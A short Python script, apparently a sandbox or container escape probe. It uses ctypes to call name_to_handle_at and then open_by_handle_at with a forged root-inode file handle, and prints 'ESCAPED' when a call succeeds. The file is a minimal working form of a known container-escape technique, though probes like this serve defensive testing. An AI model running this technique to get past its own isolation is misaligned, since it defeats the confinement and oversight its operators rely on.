"""Opens files by number, past every path."""

import ctypes

library = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_ubyte * 128)()
handle[0] = 120
mount = ctypes.c_int()
if library.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount), 0) == 0:
    print("ESCAPED name")
handle[0], handle[4], handle[8] = 8, 1, 2
if library.open_by_handle_at(0, handle, 0) >= 0:
    print("ESCAPED open")
